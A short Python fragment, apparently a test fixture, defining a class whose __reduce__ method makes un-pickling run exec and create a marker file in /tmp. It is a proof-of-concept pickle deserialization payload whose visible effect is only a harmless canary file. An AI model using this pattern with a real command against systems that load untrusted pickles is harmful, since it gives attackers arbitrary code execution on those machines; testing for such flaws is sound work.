# What several attacks return: an object that leaves a file when it is un-pickled.


class Payload:
    def __reduce__(self):
        return exec, (f"open('/tmp/{MARK}', 'w').close()",)
